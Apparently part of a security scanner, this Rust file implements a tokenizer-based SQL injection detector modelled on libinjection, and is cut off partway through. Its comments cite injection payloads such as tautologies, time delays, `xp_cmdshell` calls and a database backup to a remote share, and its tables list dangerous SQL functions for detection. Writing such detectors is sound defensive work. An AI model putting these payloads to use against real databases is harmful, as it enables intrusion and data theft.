//! SQL injection: tokenize the value the way a SQL lexer would, then judge the shape of the
//! tokens, as libinjection does, rather than look for words.
//!
//! An injection has to *break out* of the place the application put the value: out of a
//! quoted string (`' or 1=1--`), or out of a number (`1 or 1=1`). So the value is read three
//! ways: as-is, as if a `'` string were open before it, and as if a `"` string were. What
//! follows a breakout must then read as SQL: a logical operator with an operand that
//! continues as an expression, a comparison, a comment that cuts the rest of the query, a
//! `UNION SELECT`, a stacked statement after `;`, a clause (`ORDER BY 5`). Prose fails these
//! tests where word lists do not: in "the students' or teachers' books" the quote is followed
//! by `or`, but `teachers` is followed by another string, not by an expression; "select the
//! best option from the list" has SELECT and FROM, but three bare words in a row are not a
//! select list.
//!
//! Anywhere in the value, a few things are SQL whatever surrounds them: `UNION SELECT`, time
//! functions with numeric arguments (`SLEEP(5)`, `BENCHMARK(1000000,...)`,
//! `WAITFOR DELAY '0:0:5'`), file and command functions (`LOAD_FILE(`, `xp_cmdshell`), and
//! tautologies (`or 1=1`). Catalog names (`information_schema`) and server variables
//! (`@@version`) are weaker alone and count with another sign.

use super::{Finding, Severity, ThreatType};

/// Tokens looked at per reading, at most (bounded work on huge values).
const MAX_TOKENS: usize = 2048;
/// Tokens looked at after an assumed open quote.
const QUOTED_TOKENS: usize = 48;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kw {
    Select,
    Union,
    All,
    Distinct,
    From,
    Where,
    Order,
    Group,
    By,
    Having,
    Limit,
    Procedure,
    Into,
    Outfile,
    Insert,
    Update,
    Delete,
    Drop,
    Create,
    Alter,
    Truncate,
    Exec,
    Declare,
    Call,
    Begin,
    Set,
    Waitfor,
    Delay,
    Shutdown,
    Table,
    Null,
    True,
    False,
    Like,
    Is,
    In,
    Between,
    Regexp,
    Case,
    As,
    Not,
    Asc,
    Grant,
    Backup,
}

/// Functions by what they tell of the caller.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Func {
    /// Delays: blind injection's clock.
    Time,
    /// Files, commands, out-of-band channels.
    Danger,
    /// Building strings and reading the server: common in injections, common in SQL too.
    Plain,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tok {
    Str {
        closed: bool,
    },
    Num,
    /// `@var`, `@@var`.
    Var {
        system: bool,
    },
    Bare,
    /// A catalog name (`information_schema`, `sysobjects`).
    Catalog,
    Kw(Kw),
    Func(Func),
    Logic,
    Cmp,
    Arith,
    LParen,
    RParen,
    Comma,
    Semi,
    Comment,
    Other,
}

#[derive(Debug, Clone, Copy)]
struct Token {
    kind: Tok,
    start: usize,
    end: usize,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Open {
    Nothing,
    /// A string the application opened: `'`, `"`, a MySQL name in backticks, or
    /// PostgreSQL's `$$` (written as `$`).
    Quote(u8),
}

impl Open {
    /// The bytes that close what is open.
    fn closing(self) -> &'static [u8] {
        match self {
            Open::Nothing => b"",
            Open::Quote(b'$') => b"$$",
            Open::Quote(b'`') => b"`",
            Open::Quote(b'"') => b"\"",
            Open::Quote(_) => b"'",
        }
    }
}

fn keyword(word: &str) -> Option<Tok> {
    use Kw::*;
    let kw = match word {
        "select" => Select,
        "union" => Union,
        "all" => All,
        "distinct" => Distinct,
        "from" => From,
        "where" => Where,
        "order" => Order,
        "group" => Group,
        "by" => By,
        "having" => Having,
        "limit" => Limit,
        "procedure" => Procedure,
        "into" => Into,
        "outfile" | "dumpfile" => Outfile,
        "insert" => Insert,
        "update" => Update,
        "delete" => Delete,
        "drop" => Drop,
        "create" => Create,
        "alter" => Alter,
        "truncate" => Truncate,
        "exec" | "execute" => Exec,
        "declare" => Declare,
        "call" => Call,
        "begin" => Begin,
        "set" => Set,
        "waitfor" => Waitfor,
        "delay" | "time" => Delay,
        "shutdown" => Shutdown,
        "table" | "database" | "view" | "index" | "schema" | "user" | "login" | "trigger"
        | "function" => Table,
        "null" => Null,
        "true" => True,
        "false" => False,
        "like" | "rlike" | "ilike" | "glob" => Like,
        "regexp" | "similar" | "sounds" => Regexp,
        "is" => Is,
        "in" => In,
        "between" => Between,
        "case" => Case,
        "as" => As,
        "not" => Not,
        "asc" | "desc" => Asc,
        "grant" | "revoke" => Grant,
        "backup" => Backup,
        "and" | "or" | "xor" | "div" => return Some(Tok::Logic),
        _ => return None,
    };
    Some(Tok::Kw(kw))
}

fn function(word: &str) -> Option<Func> {
    Some(match word {
        "sleep"
        | "benchmark"
        | "pg_sleep"
        | "dbms_lock.sleep"
        | "dbms_session.sleep"
        | "user_lock.sleep"
        | "dbms_pipe.receive_message"
        | "randomblob"
        | "sys.dbms_lock.sleep" => Func::Time,
        "load_file"
        | "extractvalue"
        | "updatexml"
        | "xp_cmdshell"
        | "xp_dirtree"
        | "xp_regread"
        | "sp_executesql"
        | "sp_oacreate"
        | "sys_eval"
        | "sys_exec"
        | "lo_import"
        | "lo_export"
        | "pg_read_file"
        | "pg_ls_dir"
        | "dblink"
        | "openrowset"
        | "opendatasource"
        | "utl_inaddr.get_host_address"
        | "utl_http.request"
        | "dbms_xmlgen.getxml"
        | "httpuritype"
        | "name_const"
        | "geometrycollection"
        | "multipoint"
        | "polygon"
        | "linestring"
        | "exp"
        | "copy" => Func::Danger,
        "char" | "chr" | "nchar" | "concat" | "concat_ws" | "group_concat" | "ascii"
        | "substring" | "substr" | "mid" | "hex" | "unhex" | "cast" | "convert" | "elt"
        | "make_set" | "ifnull" | "iif" | "isnull" | "nullif" | "coalesce" | "count" | "length"
        | "len" | "ord" | "md5" | "sha1" | "rand" | "floor" | "version" | "user"
        | "current_user" | "system_user" | "session_user" | "database" | "schema_name"
        | "db_name" | "user_name" | "table_name" | "column_name" | "if" | "instr" | "lower"
        | "upper" | "replace" | "reverse" | "left" | "right" | "trim" | "now" | "sum" | "min"
        | "max" | "avg" | "uuid" | "row" | "json_keys" | "decode" | "encode" | "to_char"
        | "unistr" | "quote" | "upper_case" | "sqlite_version" | "current_database"
        | "string_agg" | "listagg" | "xmltype" | "repeat" => Func::Plain,
        _ => return None,
    })
}

fn catalog(word: &str) -> bool {
    let first = word.split('.').next().unwrap_or(word);
    matches!(
        first,
        "information_schema"
            | "sysobjects"
            | "syscolumns"
            | "sysusers"
            | "sysdatabases"
            | "msysobjects"
            | "msysaccessobjects"
            | "pg_catalog"
            | "pg_shadow"
            | "pg_user"
            | "pg_database"
            | "sqlite_master"
            | "sqlite_schema"
            | "all_tables"
            | "all_users"
            | "user_tables"
            | "dba_users"
            | "v$version"
    ) || word == "mysql.user"
        || word == "master..sysdatabases"
}

/// Every word `keyword`, `function` and `catalog` know (for the one-lookup table).
const KNOWN_WORDS: &[&str] = &[
    "all",
    "all_tables",
    "all_users",
    "alter",
    "and",
    "as",
    "asc",
    "ascii",
    "avg",
    "backup",
    "benchmark",
    "between",
    "by",
    "case",
    "cast",
    "char",
    "chr",
    "coalesce",
    "column_name",
    "concat",
    "concat_ws",
    "convert",
    "copy",
    "count",
    "create",
    "current_database",
    "current_user",
    "database",
    "db_name",
    "dba_users",
    "dblink",
    "dbms_lock.sleep",
    "dbms_session.sleep",
    "user_lock.sleep",
    "dbms_pipe.receive_message",
    "dbms_xmlgen.getxml",
    "declare",
    "call",
    "begin",
    "decode",
    "delay",
    "delete",
    "desc",
    "distinct",
    "div",
    "drop",
    "dumpfile",
    "elt",
    "encode",
    "exec",
    "execute",
    "exp",
    "extractvalue",
    "false",
    "floor",
    "from",
    "function",
    "geometrycollection",
    "glob",
    "grant",
    "group",
    "group_concat",
    "having",
    "hex",
    "httpuritype",
    "if",
    "ifnull",
    "iif",
    "ilike",
    "in",
    "index",
    "information_schema",
    "insert",
    "instr",
    "into",
    "is",
    "isnull",
    "json_keys",
    "left",
    "len",
    "length",
    "like",
    "limit",
    "linestring",
    "listagg",
    "lo_export",
    "lo_import",
    "load_file",
    "login",
    "lower",
    "make_set",
    "master..sysdatabases",
    "max",
    "md5",
    "mid",
    "min",
    "msysaccessobjects",
    "msysobjects",
    "multipoint",
    "mysql.user",
    "name_const",
    "nchar",
    "not",
    "now",
    "null",
    "nullif",
    "opendatasource",
    "openrowset",
    "or",
    "ord",
    "order",
    "outfile",
    "pg_catalog",
    "pg_database",
    "pg_ls_dir",
    "pg_read_file",
    "pg_shadow",
    "pg_sleep",
    "pg_user",
    "polygon",
    "procedure",
    "quote",
    "rand",
    "randomblob",
    "regexp",
    "replace",
    "repeat",
    "reverse",
    "revoke",
    "right",
    "rlike",
    "row",
    "schema",
    "schema_name",
    "select",
    "session_user",
    "set",
    "sha1",
    "shutdown",
    "similar",
    "sleep",
    "sounds",
    "sp_executesql",
    "sp_oacreate",
    "sqlite_master",
    "sqlite_schema",
    "sqlite_version",
    "string_agg",
    "substr",
    "substring",
    "sum",
    "sys.dbms_lock.sleep",
    "sys_eval",
    "sys_exec",
    "syscolumns",
    "sysdatabases",
    "sysobjects",
    "system_user",
    "sysusers",
    "table",
    "table_name",
    "time",
    "to_char",
    "trigger",
    "trim",
    "true",
    "truncate",
    "unhex",
    "union",
    "unistr",
    "update",
    "updatexml",
    "upper",
    "upper_case",
    "user",
    "user_name",
    "user_tables",
    "utl_http.request",
    "utl_inaddr.get_host_address",
    "uuid",
    "v$version",
    "version",
    "view",
    "waitfor",
    "where",
    "xmltype",
    "xor",
    "xp_cmdshell",
    "xp_dirtree",
    "xp_regread",
];

/// Tokenizes `text` (lowercase ASCII where it matters: callers pass it lowered) as if `open`
/// were open before it.
/// Tokenizes `text` into `out` (cleared first), leaving comments out, and tells whether a
/// comment ended the value. At most `max_tokens` tokens are read, comments included.
fn tokenize(text: &[u8], open: Open, max_tokens: usize, out: &mut Vec<Token>) -> bool {
    out.clear();
    let mut read = 0;
    let mut ends_in_comment = false;
    let mut odbc_open = 0usize;
    let mut i = 0;
    if let Open::Quote(q) = open {
        let (end, closed) = if q == b'$' {
            // PostgreSQL's dollar quoting: `$$...$$`.
            match find(text, 0, b"$$") {
                Some(p) => (p + 2, true),
                None => (text.len(), false),
            }
        } else {
            // The first quote closes the string whatever stands before it: `\' or 1=1`
            // is written for an application that escapes quotes with a backslash, which
            // makes the attacker's backslash a literal one and frees the quote.
            string_end_unescaped(text, q)
        };
        out.push(Token {
            kind: Tok::Str { closed },
            start: 0,
            end,
        });
        i = end;
        read = 1;
    }
    while i < text.len() && read < max_tokens {
        let b = text[i];
        let start = i;
        let kind = match b {
            b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | 0xa0 => {
                i += 1;
                continue;
            }
            b'\'' | b'"' => {
                let (end, closed) = string_end(text, i + 1, b);
                i = end;
                Tok::Str { closed }
            }
            b'`' => {
                let (end, _) = string_end(text, i + 1, b'`');
                i = end;
                Tok::Bare
            }
            // `--` comments; `--or` (a dash in prose) is not one.
            b'-' if text.get(i + 1) == Some(&b'-')
                && !text.get(i + 2).is_some_and(u8::is_ascii_alphabetic) =>
            {
                i = line_end(text, i);
                Tok::Comment
            }
            // MySQL's `#` comment; `#2` (a number sign) is not one.
            // `#2` is a number sign and `#tag` a tag, but a `#word` that runs to the end of
            // its line is how sqlmap hides its keywords (`1#abc\nAND#def\n1=1`).
            b'#' if !text.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)
                || text
                    .get(word_end(text, i + 1))
                    .is_some_and(|b| *b == b'\n' || *b == b'\r') =>
            {
                i = line_end(text, i);
                Tok::Comment
            }
            b'/' if text.get(i + 1) == Some(&b'*') => {
                if text.get(i + 2) == Some(&b'!') {
                    // MySQL's executable comment: its contents are code.
                    i += 3;
                    while i < text.len() && text[i].is_ascii_digit() {
                        i += 1;
                    }
                    continue;
                }
                i = match find(text, i + 2, b"*/") {
                    Some(p) => p + 2,
                    None => text.len(),
                };
                Tok::Comment
            }
            b'*' if text.get(i + 1) == Some(&b'/') => {
                // The end of an executable comment.
                i += 2;
                continue;
            }
            b'0'..=b'9' => {
                i = number_end(text, i);
                Tok::Num
            }
            b'.' if text.get(i + 1).is_some_and(u8::is_ascii_digit) => {
                i = number_end(text, i + 1);
                Tok::Num
            }
            b'@' => {
                let system = text.get(i + 1) == Some(&b'@');
                i += if system { 2 } else { 1 };
                i = word_end(text, i);
                Tok::Var { system }
            }
            b'a'..=b'z' | b'A'..=b'Z' | b'_' | b'$' => {
                let word = Word::read(text, i);
                i = word.end;
                word.classify(&text[start..i])
            }
            // ODBC and JDBC escapes (`{fn user()}`, `{ts '2020-01-01'}`, `{oj ...}`) wrap SQL:
            // their braces are read as if absent, the SQL inside as SQL.
            b'{' => match odbc_escape_len(&text[i..]) {
                Some(len) => {
                    i += len;
                    odbc_open += 1;
                    continue;
                }
                None => {
                    i += 1;
                    Tok::Other
                }
            },
            b'}' if odbc_open > 0 => {
                odbc_open -= 1;
                i += 1;
                continue;
            }
            b'(' => {
                i += 1;
                Tok::LParen
            }
            b')' => {
                i += 1;
                Tok::RParen
            }
            b',' => {
                i += 1;
                Tok::Comma
            }
            b';' => {
                i += 1;
                Tok::Semi
            }
            b'=' | b'<' | b'>' | b'!' => {
                i += 1;
                while i < text.len() && matches!(text[i], b'=' | b'<' | b'>') && i - start < 3 {
                    i += 1;
                }
                if &text[start..i] == b"!" {
                    Tok::Arith
                } else {
                    Tok::Cmp
                }
            }
            b'|' if text.get(i + 1) == Some(&b'|') => {
                i += 2;
                Tok::Logic
            }
            b'&' if text.get(i + 1) == Some(&b'&') => {
                i += 2;
                Tok::Logic
            }
            b'+' | b'-' | b'*' | b'/' | b'%' | b'&' | b'|' | b'^' | b'~' | b':' => {
                i += 1;
                Tok::Arith
            }
            _ => {
                i += utf8_len(b);
                Tok::Other
            }
        };
        read += 1;
        ends_in_comment = kind == Tok::Comment;
        if !ends_in_comment {
            out.push(Token {
                kind,
                start,
                end: i.min(text.len()),
            });
        }
    }
    ends_in_comment
}

fn utf8_len(b: u8) -> usize {
    match b {
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        0xf0..=0xf7 => 4,
        _ => 1,
    }
}

/// Whether a byte continues a word: ASCII letters and digits, `_`, `$`.
const WORD_BYTE: [bool; 256] = {
    let mut table = [false; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        table[b] = c.is_ascii_alphanumeric() || c == b'_' || c == b'$';
        b += 1;
    }
    table
};

/// A word read from a value, hashed as it was read: the lexer meets a word every few bytes
/// of prose, and reading it, hashing it and looking it up in one pass over its bytes is most
/// of what the tokenizer costs.
struct Word {
    end: usize,
    hash: u32,
    /// Holds a `.` or `_` (`information_schema.tables`, `xp_cmdshell`): may need the slow
    /// path when the table misses.
    qualified: bool,
    /// Holds a `.`: a catalog or a procedure may be one of its parts.
    dotted: bool,
}

impl Word {
    /// Reads the word at `i` (a letter, `_` or `$`), dotted parts included.
    #[inline]
    fn read(text: &[u8], mut i: usize) -> Word {
        let mut hash = FOLD_SEED;
        let mut qualified = false;
        let mut dotted = false;
        loop {
            while let Some(&b) = text.get(i) {
                if !WORD_BYTE[usize::from(b)] {
                    break;
                }
                hash = fold_hash(hash, b);
                qualified |= b == b'_';
                i += 1;
            }
            // Dotted names are one token (`information_schema.tables`).
            if text.get(i) == Some(&b'.')
                && text
                    .get(i + 1)
                    .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_' || *c == b'.')
            {
                hash = fold_hash(hash, b'.');
                qualified = true;
                dotted = true;
                i += 1;
                continue;
            }
            return Word {
                end: i,
                hash,
                qualified,
                dotted,
            };
        }
    }

    /// The class of the word, `word` being its bytes (`&text[start..self.end]`).
    #[inline]
    fn classify(&self, word: &[u8]) -> Tok {
        if word.len() > MAX_KNOWN_WORD {
            return Tok::Bare;
        }
        if let Some(tok) = WordTable::get().find(word, self.hash) {
            return tok;
        }
        if !self.qualified {
            return Tok::Bare;
        }
        self.by_parts(word)
    }

    /// Every known word is in the table. Beyond it, a name is known by its parts only: a
    /// catalog as its first part (`information_schema.columns`), one of SQL Server's
    /// procedures as its last (`xp_anything`, `master..sp_anything`).
    #[inline(never)]
    fn by_parts(&self, word: &[u8]) -> Tok {
        let procedure = |part: &[u8]| {
            part.len() >= 3
                && (part[..3].eq_ignore_ascii_case(b"xp_")
                    || part[..3].eq_ignore_ascii_case(b"sp_"))
        };
        if !self.dotted {
            return if procedure(word) {
                Tok::Func(Func::Danger)
            } else {
                Tok::Bare
            };
        }
        let last = word.rsplit(|b| *b == b'.').next().unwrap_or(word);
        if procedure(last) {
            return Tok::Func(Func::Danger);
        }
        let first = word.split(|b| *b == b'.').next().unwrap_or(word);
        let hash = first.iter().fold(FOLD_SEED, |h, b| fold_hash(h, *b));
        if WordTable::get().find(first, hash) == Some(Tok::Catalog) {
            Tok::Catalog
        } else {
            Tok::Bare
        }
    }
}

/// Longer words are never looked up (the longest known is shorter).
const MAX_KNOWN_WORD: usize = 40;

fn classify(word: &[u8]) -> Tok {
    if word.is_empty() {
        return Tok::Bare;
    }
    let read = Word::read(word, 0);
    if read.end != word.len() {
        return Tok::Bare;
    }
    read.classify(word)
}

const FOLD_SEED: u32 = 0x811c_9dc5;

/// FNV-1a over the byte with ASCII case folded (`| 0x20` leaves digits, `_`, `$` and `.`
/// distinct), so a word is hashed as it stands in the value, without a lowercase copy.
#[inline]
fn fold_hash(hash: u32, b: u8) -> u32 {
    (hash ^ u32::from(b | 0x20)).wrapping_mul(0x0100_0193)
}

/// Every known word with its class, in an open-addressed table: a word from a value is hashed
/// once and compared in place (most words in text are not SQL, and most miss at the first
/// slot, which is one `u32` compare against the dense `hashes` array).
struct WordTable {
    /// Each slot's word hash, `EMPTY` where none.
    hashes: Box<[u32]>,
    words: Box<[(&'static str, Tok)]>,
}

/// The hash no known word has (checked when the table is built).
const EMPTY: u32 = 0;

impl WordTable {
    fn get() -> &'static WordTable {
        static TABLE: std::sync::OnceLock<WordTable> = std::sync::OnceLock::new();
        TABLE.get_or_init(|| {
            let size = (KNOWN_WORDS.len() * 4).next_power_of_two();
            let mut hashes = vec![EMPTY; size];
            let mut words = vec![("", Tok::Bare); size];
            let mask = size - 1;
            for word in KNOWN_WORDS {
                let hash = word.bytes().fold(FOLD_SEED, fold_hash);
                assert!(hash != EMPTY && word.len() <= MAX_KNOWN_WORD, "{word}");
                let mut i = hash as usize & mask;
                while hashes[i] != EMPTY {
                    i = (i + 1) & mask;
                }
                hashes[i] = hash;
                words[i] = (*word, classify_known(word));
            }
            WordTable {
                hashes: hashes.into_boxed_slice(),
                words: words.into_boxed_slice(),
            }
        })
    }

    #[inline]
    fn find(&self, word: &[u8], hash: u32) -> Option<Tok> {
        let mask = self.hashes.len() - 1;
        let mut i = hash as usize & mask;
        loop {
            let h = self.hashes[i];
            if h == EMPTY {
                return None;
            }
            if h == hash {
                let (known, tok) = self.words[i];
                if known.as_bytes().eq_ignore_ascii_case(word) {
                    return Some(tok);
                }
            }
            i = (i + 1) & mask;
        }
    }
}

/// The class of a lowercase word, by the keyword, function and catalog lists.
fn classify_known(lower: &str) -> Tok {
    if let Some(tok) = keyword(lower) {
        return tok;
    }
    if let Some(f) = function(lower) {
        return Tok::Func(f);
    }
    // SQL Server's extended and system procedures, however qualified.
    let last = lower.rsplit('.').next().unwrap_or(lower);
    if last.starts_with("xp_") || last.starts_with("sp_") {
        return Tok::Func(Func::Danger);
    }
    if catalog(lower) {
        return Tok::Catalog;
    }
    Tok::Bare
}

/// Where the string whose contents start at `i` ends (after its closing quote), and whether
/// it was closed. A doubled quote and a backslash escape stay inside (a backtick name has
/// no escapes).
fn string_end(text: &[u8], mut i: usize, quote: u8) -> (usize, bool) {
    while i < text.len() {
        // Strings in prose run for sentences: jump to the next byte that matters.
        let next = if quote == b'`' {
            memchr::memchr(quote, &text[i..])
        } else {
            memchr::memchr2(quote, b'\\', &text[i..])
        };
        let Some(p) = next else { break };
        i += p;
        if text[i] == b'\\' {
            i += 2;
            continue;
        }
        if text.get(i + 1) == Some(&quote) {
            i += 2;
            continue;
        }
        return (i + 1, true);
    }
    (text.len(), false)
}

/// The length of an ODBC escape's opening at the start of `text` (`{fn `, `{ts `, `{d `, `{t `,
/// `{oj `, `{call `, `{escape `), if one is there.
fn odbc_escape_len(text: &[u8]) -> Option<usize> {
    const ESCAPES: [&[u8]; 8] = [b"fn", b"ts", b"d", b"t", b"oj", b"call", b"escape", b"guid"];
    let rest = text.get(1..)?;
    ESCAPES.iter().find_map(|e| {
        let after = rest.get(e.len())?;
        (rest[..e.len()].eq_ignore_ascii_case(e) && matches!(after, b' ' | b'\t' | b'\n'))
            .then_some(1 + e.len() + 1)
    })
}

/// ODBC escapes that only SQL writes: a function or procedure call (`{fn user()}`,
/// `{call proc(1)}`), an outer join (`{oj a left join b on ...}`). A query value holds them
/// only to reach a database.
fn odbc_call(text: &[u8]) -> Option<(usize, usize)> {
    for open in memchr::memchr_iter(b'{', text) {
        let Some(len) = odbc_escape_len(&text[open..]) else {
            continue;
        };
        let escape = &text[open + 1..open + len - 1];
        let mut k = open + len;
        while text.get(k).is_some_and(u8::is_ascii_whitespace) {
            k += 1;
        }
        let end = word_end(text, k);
        if escape.eq_ignore_ascii_case(b"oj") && end > k {
            return Some((open, end));
        }
        let call = escape.eq_ignore_ascii_case(b"fn") || escape.eq_ignore_ascii_case(b"call");
        if call && end > k && text.get(end) == Some(&b'(') {
            return Some((open, end + 1));
        }
    }
    None
}

/// MySQL's versioned executable comment, `/*!50000 ... */`: code that only a MySQL server of
/// that version runs, and only SQL writes.
fn versioned_comment(text: &[u8]) -> Option<(usize, usize)> {
    // `!` is rare in values: find it, then look behind (a substring searcher is built per
    // call, which costs more than the search on short values).
    memchr::memchr_iter(b'!', text).find_map(|bang| {
        let at = bang.checked_sub(2)?;
        if &text[at..bang] != b"/*" {
            return None;
        }
        let digits = text[at + 3..]
            .iter()
            .take_while(|b| b.is_ascii_digit())
            .count();
        (digits == 5).then_some((at, at + 8))
    })
}

/// Where a string opened before `text` ends, reading a backslash as a character (a doubled
/// quote still stays inside).
fn string_end_unescaped(text: &[u8], quote: u8) -> (usize, bool) {
    let mut i = 0;
    while let Some(p) = text.get(i..).and_then(|rest| memchr::memchr(quote, rest)) {
        i += p;
        if text.get(i + 1) == Some(&quote) {
            i += 2;
            continue;
        }
        return (i + 1, true);
    }
    (text.len(), false)
}

fn line_end(text: &[u8], i: usize) -> usize {
    memchr::memchr(b'\n', &text[i..]).map_or(text.len(), |p| i + p)
}

fn find(text: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    if from >= text.len() {
        return None;
    }
    memchr::memmem::find(&text[from..], needle).map(|p| from + p)
}

fn number_end(text: &[u8], mut i: usize) -> usize {
    if text.get(i) == Some(&b'0') && matches!(text.get(i + 1), Some(b'x' | b'X' | b'b' | b'B')) {
        i += 2;
        while i < text.len() && text[i].is_ascii_hexdigit() {
            i += 1;
        }
        return i;
    }
    while i < text.len() && (text[i].is_ascii_digit() || text[i] == b'.') {
        i += 1;
    }
    if matches!(text.get(i), Some(b'e' | b'E'))
        && text
            .get(i + 1)
            .is_some_and(|c| c.is_ascii_digit() || *c == b'-' || *c == b'+')
    {
        i += 2;
        while i < text.len() && text[i].is_ascii_digit() {
            i += 1;
        }
    }
    i
}

fn word_end(text: &[u8], mut i: usize) -> usize {
    while i < text.len() && (text[i].is_ascii_alphanumeric() || matches!(text[i], b'_' | b'$')) {
        i += 1;
    }
    i
}

/// A judgement: severity, confidence, and the token range that shows it.
type Verdict = Option<(Severity, f32, usize, usize)>;

fn better(a: Verdict, b: Verdict) -> Verdict {
    match (a, b) {
        (Some(x), Some(y)) => Some(if (y.0, y.1) > (x.0, x.1) { y } else { x }),
        (x, None) => x,
        (None, y) => y,
    }
}

fn kind(t: &[Token], i: usize) -> Option<Tok> {
    t.get(i).map(|t| t.kind)
}

/// Whether a statement starts at `i` (after a `;`, or at the start of the value).
fn statement(t: &[Token], i: usize) -> bool {
    use Kw::*;
    match kind(t, i) {
        Some(Tok::Kw(Drop | Truncate | Create | Alter)) => {
            matches!(kind(t, i + 1), Some(Tok::Kw(Table)))
        }
        // `DELETE FROM x`, `DELETE LOW_PRIORITY FROM x`.
        Some(Tok::Kw(Delete)) => {
            matches!(kind(t, i + 1), Some(Tok::Kw(From)))
                || (matches!(kind(t, i + 1), Some(Tok::Bare))
                    && matches!(kind(t, i + 2), Some(Tok::Kw(From))))
        }
        Some(Tok::Kw(Insert)) => matches!(kind(t, i + 1), Some(Tok::Kw(Into))),
        Some(Tok::Kw(Update)) => {
            matches!(kind(t, i + 1), Some(Tok::Bare))
                && matches!(kind(t, i + 2), Some(Tok::Kw(Set)))
        }
        // `EXEC xp_cmdshell`, `EXEC(@sql)`, `EXEC('...')`; "exec will" is English.
        Some(Tok::Kw(Exec)) => {
            matches!(
                kind(t, i + 1),
                Some(Tok::Func(_) | Tok::Var { .. } | Tok::LParen | Tok::Str { .. })
            )
            // Oracle's `EXECUTE IMMEDIATE 'sel' || 'ect ...'`.
            || (matches!(kind(t, i + 1), Some(Tok::Bare))
                && matches!(kind(t, i + 2), Some(Tok::Str { closed: true }))
                && matches!(kind(t, i + 3), None | Some(Tok::Logic | Tok::Semi | Tok::Arith)))
        }
        Some(Tok::Kw(Shutdown)) => matches!(kind(t, i + 1), None | Some(Tok::Semi)),
        Some(Tok::Kw(Grant)) => matches!(kind(t, i + 1), Some(Tok::Bare | Tok::Kw(All | Select))),
        // SQL Server writing a database out to a share: `BACKUP DATABASE master TO
        // DISK='\\host\share\x.bak'`. ("Backup database to disk" is a sentence: no target.)
        Some(Tok::Kw(Backup)) => {
            matches!(kind(t, i + 1), Some(Tok::Kw(Table) | Tok::Bare))
                && (i + 2..i + 7).any(|j| {
                    matches!(kind(t, j), Some(Tok::Cmp))
                        && matches!(kind(t, j + 1), Some(Tok::Str { .. }))
                })
        }
        Some(Tok::Kw(Declare)) => matches!(kind(t, i + 1), Some(Tok::Var { .. })),
        // A T-SQL or PL/SQL block around a statement: `;begin exec xp_cmdshell '...' end`.
        Some(Tok::Kw(Begin)) => {
            !matches!(kind(t, i + 1), Some(Tok::Kw(Begin))) && statement(t, i + 1)
        }
        // `CALL f(g(...))`: a procedure called on a function's result ("call Mom (555)" is
        // a sentence).
        Some(Tok::Kw(Call)) => {
            matches!(kind(t, i + 1), Some(Tok::Bare | Tok::Func(_)))
                && matches!(kind(t, i + 2), Some(Tok::LParen))
                && matches!(kind(t, i + 3), Some(Tok::Func(_) | Tok::Var { .. }))
        }
        Some(Tok::Kw(Waitfor)) => matches!(kind(t, i + 1), Some(Tok::Kw(Delay))),
        Some(Tok::Kw(Set)) => matches!(kind(t, i + 1), Some(Tok::Var { .. })),
        Some(Tok::Kw(Select)) => select_list(t, i + 1),
        Some(Tok::Func(Func::Time | Func::Danger)) => {
            matches!(kind(t, i + 1), Some(Tok::LParen))
        }
        _ => false,
    }
}

/// Whether what follows SELECT reads as a select list.
fn select_list(t: &[Token], i: usize) -> bool {
    use Kw::*;
    let after_item = |j: usize| {
        matches!(
            kind(t, j),
            None | Some(
                Tok::Comma
                    | Tok::Kw(From | Union | Into | Limit | Where | Order | Group | As)
                    | Tok::Semi
                    | Tok::RParen
                    | Tok::Arith
                    | Tok::Cmp
                    | Tok::Logic
            )
        )
    };
    // A column named like a function or a keyword: `SELECT user, host FROM mysql.user`.
    let name = |j: usize| match kind(t, j) {
        Some(Tok::Bare | Tok::Kw(Table)) => true,
        Some(Tok::Func(_)) => !matches!(kind(t, j + 1), Some(Tok::LParen)),
        _ => false,
    };
    // A column named like a function (`table_name`, `user`) is read as the name it is.
    let here = match kind(t, i) {
        Some(Tok::Kw(Table)) => Some(Tok::Bare),
        Some(Tok::Func(_)) if !matches!(kind(t, i + 1), Some(Tok::LParen)) => Some(Tok::Bare),
        k => k,
    };
    match here {
        Some(Tok::Kw(All | Distinct)) => select_list(t, i + 1),
        // T-SQL's `SELECT TOP 1 name`, `TOP 5 *`.
        Some(Tok::Bare)
            if matches!(kind(t, i + 1), Some(Tok::Num))
                && (name(i + 2) || matches!(kind(t, i + 2), Some(Tok::Arith))) =>
        {
            select_list(t, i + 2)
        }
        // `*`, or a sign before the first item (`select -sin(1),2`, `select -1,...`).
        Some(Tok::Arith) => {
            after_item(i + 1)
                || (!matches!(kind(t, i + 1), Some(Tok::Arith)) && select_list(t, i + 1))
        }
        Some(Tok::Var { .. } | Tok::Kw(Null | Case) | Tok::LParen | Tok::Catalog) => true,
        Some(Tok::Func(_)) => matches!(kind(t, i + 1), Some(Tok::LParen)),
        Some(Tok::Num | Tok::Str { .. }) => after_item(i + 1),
        Some(Tok::Bare) => match kind(t, i + 1) {
            Some(Tok::Comma) => {
                name(i + 2)
                    || matches!(
                        kind(t, i + 2),
                        Some(Tok::Num | Tok::Func(_) | Tok::Var { .. })
                    )
            }
            // `login/2 from users`: arithmetic on a column, then the list goes on.
            Some(Tok::Arith) => {
                matches!(kind(t, i + 2), Some(Tok::Num | Tok::Bare))
                    && matches!(kind(t, i + 3), Some(Tok::Kw(From) | Tok::Comma))
            }
            Some(Tok::Kw(From)) => {
                matches!(kind(t, i + 2), Some(Tok::Bare | Tok::Catalog | Tok::LParen))
                    && matches!(
                        kind(t, i + 3),
                        None | Some(
                            Tok::Kw(Where | Union | Limit | Order | Group | Into)
                                | Tok::Semi
                                | Tok::RParen
                                | Tok::Comma
                                | Tok::Bare
                                | Tok::Str { .. }
                        )
                    )
                    && !matches!(
                        (kind(t, i + 3), kind(t, i + 4)),
                        (Some(Tok::Bare), Some(Tok::Bare))
                    )
            }
            Some(Tok::LParen) => true,
            _ => false,
        },
        _ => false,
    }
}

/// Whether an operand starts at `i`, and where it ends (exclusive).
fn operand(t: &[Token], i: usize) -> Option<(usize, Tok)> {
    match kind(t, i)? {
        Tok::Arith => {
            // A sign: `-1`, `!x`, `~0`.
